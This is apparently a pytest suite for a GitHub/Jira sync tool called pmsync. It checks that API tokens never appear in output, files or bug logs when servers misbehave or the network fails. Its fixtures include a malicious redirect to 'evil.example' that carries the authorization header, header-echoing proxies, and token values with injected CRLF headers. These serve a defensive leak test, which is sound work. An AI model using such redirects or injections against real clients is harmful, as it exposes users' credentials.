"""No secret in any output, file or argument, whatever goes wrong: the real command line, in processes of its own."""

from __future__ import annotations

import base64
import stat
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import NoReturn

import pytest

from pmsync.ledger import Ledger
from tests.clock import Clock
from tests.crash.child import Job
from tests.crash.scene import DOCUMENT, FIRST, HEAD, Server
from tests.fakes.http import Before, Drop, Request, Response
from tests.sync.faults import FAULTS
from tests.trackers.github_stage import GitHubStage
from tests.trackers.jira_stage import JiraStage

GITHUB_SECRET = "ghp_Zq8vWc3TnYb5LkR1"
JIRA_SECRET = "ATATT3xZq8vWc3TnYb5LkR1"
EMAIL = "bot@example.com"
SECRETS = (
    GITHUB_SECRET,
    JIRA_SECRET,
    base64.b64encode(f"{EMAIL}:{JIRA_SECRET}".encode()).decode(),
    GITHUB_SECRET[4:16],
    JIRA_SECRET[5:17],
)
COMMANDS = (("--debug", "-vv", "sync"), ("-vv", "plan", "--format", "json"), ("--debug", "doctor"))


@dataclass
class Place:
    """A repository whose tracker is this service, and all that was printed there; `log` are the requests' secrets."""

    folder: Path
    stage: GitHubStage | JiraStage
    server: Server
    environ: dict[str, str]
    printed: list[str] = field(default_factory=list)

    def run(self, *args: str, **environ: str) -> int:
        job = Job(str(self.folder), args, self.environ | environ, self.stage.clock.now().isoformat())
        code, printed = self.server.run(job)
        self.printed.append(printed)
        return code

    def everything(self) -> str:
        """All that was printed, and all that was written anywhere: the ledger, its journal, the log of a bug."""
        files = (path for path in self.folder.rglob("*") if path.is_file())
        return "".join((*self.printed, *(path.read_bytes().decode("latin-1") for path in files)))


def config(stage: GitHubStage | JiraStage) -> tuple[str, dict[str, str]]:
    if isinstance(stage, GitHubStage):
        table = f'[trackers.web]\ntype = "github"\nrepo = "acme/web"\napi_url = "{stage.github.api_url}"\n'
        return table, {"GITHUB_TOKEN": GITHUB_SECRET}
    login = 'email_env = "JIRA_EMAIL"\n' if stage.deployment == "cloud" else ""
    table = (
        f'[trackers.pay]\ntype = "jira"\nurl = "{stage.jira.url}"\nproject = "PAY"\n'
        f'deployment = "{stage.deployment}"\n{login}'
    )
    return table, {"JIRA_EMAIL": EMAIL, "JIRA_TOKEN": JIRA_SECRET}


@pytest.fixture(params=["github", "cloud", "server"])
def place(request: pytest.FixtureRequest, tmp_path: Path, processes: Server) -> Iterator[Place]:
    stage = GitHubStage(Clock()) if request.param == "github" else JiraStage(Clock(), str(request.param))
    with stage:
        if isinstance(stage, GitHubStage):
            stage.github.state.tokens[GITHUB_SECRET] = stage.github.state.tokens.popitem()[1]
        else:
            stage.jira.tokens[JIRA_SECRET] = stage.me
        table, environ = config(stage)
        head = '[documents]\nnamespace = "acme/web"\nsince = 2024-11-01\n'
        (tmp_path / "pmsync.toml").write_text(f'{head}{table}lag = "0"\nsettle = "0"\n', encoding="utf-8")
        document = tmp_path / DOCUMENT
        document.parent.mkdir()
        document.write_text(HEAD + "".join(f"- {item} (owner: alice)\n" for item in FIRST), encoding="utf-8")
        yield Place(tmp_path, stage, processes, environ)


def wire(stage: GitHubStage | JiraStage) -> object:
    return stage.github.server if isinstance(stage, GitHubStage) else stage.jira.server


def echo(request: Request) -> Response:
    """A proxy that shows in its answer what it was sent."""
    said = "; ".join(f"{name}: {value}" for name, value in request.headers.items())
    return Response(400, {"message": f"Bad request ({said})", "errorMessages": [said], "errors": {"header": said}})


def echo_in_listing(request: Request) -> Response:
    return Response(200, {"issues": [{"key": str(request.headers)}], "message": str(request.headers)})


def redirect(request: Request) -> Response:
    return Response(302, {}, {"Location": f"https://evil.example/?{request.headers.get('authorization')}"})


ANSWERS: dict[str, Before] = {
    "unauthorised": lambda _: Response(401, {"message": "Bad credentials"}),
    "forbidden": lambda _: Response(403, {"message": "Resource not accessible by personal access token"}),
    "not found": lambda _: Response(404, {"message": "Not Found"}),
    "moved": lambda _: Response(301, {}, {"Location": "/elsewhere"}),
    "nonsense": lambda _: Response(200, [{"number": "x"}, 7, None]),
    "dropped": lambda _: Drop(),
    "echo": echo,
    "echo in a listing": echo_in_listing,
    "redirect with everything": redirect,
}


def shown(place: Place) -> list[str]:
    everything = place.everything()
    return [secret for secret in SECRETS if secret in everything]


def test_a_run_that_goes_well_shows_and_keeps_no_secret(place: Place) -> None:
    assert place.run("-vv", "sync") == 0
    for command in COMMANDS:
        place.run(*command)
    for command in (("status",), ("status", "--format", "csv"), ("show", FIRST[0]), ("extract", "."), ("check",)):
        place.run(*command)
    assert place.stage.created() == len(FIRST)
    assert shown(place) == []


def test_the_secret_was_sent_and_the_search_would_find_it(place: Place) -> None:
    """Else the tests here would prove nothing."""
    place.run("sync")
    sent = str([record.request.headers for record in wire(place.stage).log])  # type: ignore[attr-defined]
    assert any(secret in sent for secret in SECRETS)
    place.printed.append(sent)
    assert shown(place)


@pytest.mark.parametrize("name", ANSWERS)
def test_no_bad_answer_shows_a_secret(place: Place, name: str) -> None:
    wire(place.stage).before = ANSWERS[name]  # type: ignore[attr-defined]
    for command in COMMANDS:
        place.run(*command)
    assert shown(place) == []


@pytest.mark.parametrize("name", ["echo", "echo in a listing", "redirect with everything"])
def test_no_bad_answer_to_a_write_shows_a_secret(place: Place, name: str) -> None:
    """The reasons of a refusal are kept in the ledger."""
    answer = ANSWERS[name]
    wire(place.stage).before = lambda request: (  # type: ignore[attr-defined]
        answer(request) if request.method == "POST" and "search" not in request.path else None
    )
    place.run("-vv", "--debug", "sync")
    place.run("status")
    assert place.stage.created() == 0
    assert shown(place) == []


def test_no_fault_of_the_network_shows_a_secret(place: Place) -> None:
    for fault in FAULTS:
        if fault.of(place.stage) and fault.name not in {"hang after", "slow answer"}:
            wire(place.stage).before = lambda request, fault=fault: fault.makes(place.stage.clock, request, None)
            place.run("--debug", "-vv", "sync")
    wire(place.stage).stop()  # type: ignore[attr-defined]
    for command in COMMANDS:
        place.run(*command)
    assert shown(place) == []


@pytest.mark.parametrize("value", ["{}\n", " {}", "{}\r\nX-More: 1", "{}…", "{}\x00", "{} {}", "\ufeff{}"])
def test_a_secret_with_something_around_it_is_no_leak_and_no_bug(place: Place, value: str) -> None:
    name, secret = next((name, text) for name, text in place.environ.items() if name.endswith("TOKEN"))
    code = place.run("--debug", "-vv", "sync", **{name: value.format(secret, secret)})
    assert code in {0, 1, 2}, place.printed
    assert "Traceback (most recent call last)" not in place.printed[-1] or code != 3
    assert place.stage.created() in {0, len(FIRST)}
    assert shown(place) == []


def test_ledger_lock_and_folder_are_nobody_elses(place: Place) -> None:
    place.run("sync")
    home = place.folder / ".pmsync"
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in home.iterdir()}
    assert modes.pop(".gitignore", 0) & 0o022 == 0
    assert modes == {"ledger.db": 0o600, "ledger.db.pmsync.lock": 0o600}
    with Ledger.open(home / "ledger.db", readonly=True) as ledger:
        assert ledger.links()


def test_the_log_of_a_bug_is_private_and_holds_no_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Nobody knows what the message of an unknown error holds: so the environment's secrets are blacked out."""
    import click  # noqa: PLC0415

    from pmsync.cli.commands import status  # noqa: PLC0415
    from pmsync.cli.main import App, main  # noqa: PLC0415

    def broken(**_: object) -> NoReturn:
        raise RuntimeError(f"no idea what to do with {GITHUB_SECRET} and hunter2")

    monkeypatch.setattr(click, "get_app_dir", lambda name: str(tmp_path / name))
    monkeypatch.setattr(status.command, "callback", broken)
    environ = {"GITHUB_TOKEN": GITHUB_SECRET, "DB_PASSWORD": "hunter2", "HOME": str(tmp_path), "EMPTY_TOKEN": ""}
    assert main(["--debug", "status", "--format", "json"], App(environ=environ, cwd=tmp_path)) == 3
    (log,) = (tmp_path / "pmsync").glob("bug-*.log")
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    everything = "".join((*capsys.readouterr(), log.read_text()))
    assert "no idea what to do with" in everything
    assert GITHUB_SECRET not in everything
    assert "hunter2" not in everything
